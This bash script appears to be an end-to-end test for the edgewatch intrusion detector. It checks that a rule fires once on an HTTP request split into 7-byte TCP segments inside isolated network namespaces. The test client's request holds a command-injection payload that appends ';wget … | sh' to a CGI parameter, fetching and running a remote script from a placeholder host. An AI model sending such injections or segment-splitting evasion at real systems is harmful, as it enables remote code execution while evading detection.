#!/usr/bin/env bash
# End-to-end: a request cut into small TCP segments is alerted. edgewatch runs attached
# to the gateway's interface with the shipped rules (tests/config/alerts.yaml, cached: the
# default stream window); a client in the other namespace sends a wget-piped-to-shell request
# (rule 9101001) in 7-byte writes with TCP_NODELAY and a 88-byte MSS (TCP_MAXSEG, the
# smallest Linux takes), so no segment holds the word "wget" and the rest of the command
# together. The alert must come exactly once, and the stats must show the window took
# the segments. Traffic stays between the two namespaces (198.18.0.0/24), bounded.
set -u
cd "$(dirname "$0")/../.."
E2E_PREFIX=e2e/stream_live
. tests/e2e/lib.sh

GW=ewsgw$E2E_ID EXT=ewsext$E2E_ID
UP=ewsu$E2E_ID PEER=ewsp$E2E_ID
EVE=$E2E_TMP/eve.json

SERVER='
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.18.0.1", 8080)); s.listen(1); s.settimeout(20)
c, _ = s.accept(); c.settimeout(10); data = b""
while b"\r\n\r\n" not in data:
    chunk = c.recv(4096)
    if not chunk:
        break
    data += chunk
c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"); c.close()
'
CLIENT='
import socket, time
req = (b"GET /cgi-bin/ping.cgi?host=1.1.1.1;wget+-qO-+http://203.0.113.7/x.sh+|+sh HTTP/1.1\r\n"
       b"Host: 198.18.0.1\r\nUser-Agent: edgewatch-test\r\n\r\n")
s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.settimeout(10)
s.connect(("198.18.0.1", 8080))
for i in range(0, len(req), 7):
    s.sendall(req[i:i + 7]); time.sleep(0.02)
reply = s.recv(4096); s.close()
raise SystemExit(0 if reply.startswith(b"HTTP/1.1 200") else 1)
'

setup() {
	# tests/config/alerts.yaml with a rules cache, warmed by a replay: compiling the
	# ruleset can take longer than edgewatch's start is given on a loaded machine
	CONFIG=$E2E_TMP/stream.yaml
	sed -e "s|\.\./\.\./|$PWD/|g" tests/config/alerts.yaml > "$CONFIG"
	echo "  cache-dir: $E2E_TMP/cache" >> "$CONFIG"
	mkdir -p "$E2E_TMP/cache"
	timeout 300 "$EDGEWATCH_BIN" replay -c "$CONFIG" -o /dev/null \
		tests/pcaps/benign_ssh-single-conn.pcap 2> /dev/null || return 1
	e2e_lab "$GW" "$UP" "$EXT" "$PEER" || return 1
	sleep 1
}

test_small_segments() {
	if ! e2e_edgewatch_start "$GW" "$UP" "$EVE" -c "$CONFIG"; then
		e2e_fail alerted "edgewatch did not start"
		return
	fi
	local ew=$E2E_EW_PID server out
	nsenter --net=/run/netns/"$GW" timeout 30 python3 -c "$SERVER" &
	server=$!
	E2E_PIDS+=("$server")
	sleep 0.5
	e2e_in "$EXT" timeout 20 python3 -c "$CLIENT" || e2e_fail client "no answer from the server"
	wait "$server" 2>/dev/null
	sleep 1
	if ! e2e_edgewatch_stop "$ew"; then
		e2e_fail alerted "edgewatch exited badly: $(tail -n 3 "$E2E_EW_ERR")"
		return
	fi
	if out=$(python3 - "$EVE" <<'PY'
import json, sys
events = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
alerts = [e for e in events if e.get("event_type") == "alert"]
sids = [a["alert"]["signature_id"] for a in alerts]
stats = [e["stats"] for e in events if e.get("event_type") == "stats"][-1]
st = stats.get("streams", {})
problems = []
if sids.count(9101001) != 1:
    problems.append("sid 9101001 alerted %d times (alerts: %s)" % (sids.count(9101001), sids))
if st.get("segments", 0) < 10:
    problems.append("the stream window took %s segments, expected the request's ~20" % st.get("segments"))
if st.get("overflow_segments") or st.get("overflow_streams") or st.get("overflow_bytes"):
    problems.append("overflows: %s" % st)
print("; ".join(problems))
sys.exit(1 if problems else 0)
PY
); then
		e2e_pass alerted_once_from_7_byte_segments
	else
		e2e_fail alerted_once_from_7_byte_segments "$out"
	fi
}

if ! setup; then
	e2e_fail setup "could not build the veth lab"
	exit 1
fi
test_small_segments
exit $E2E_FAILED
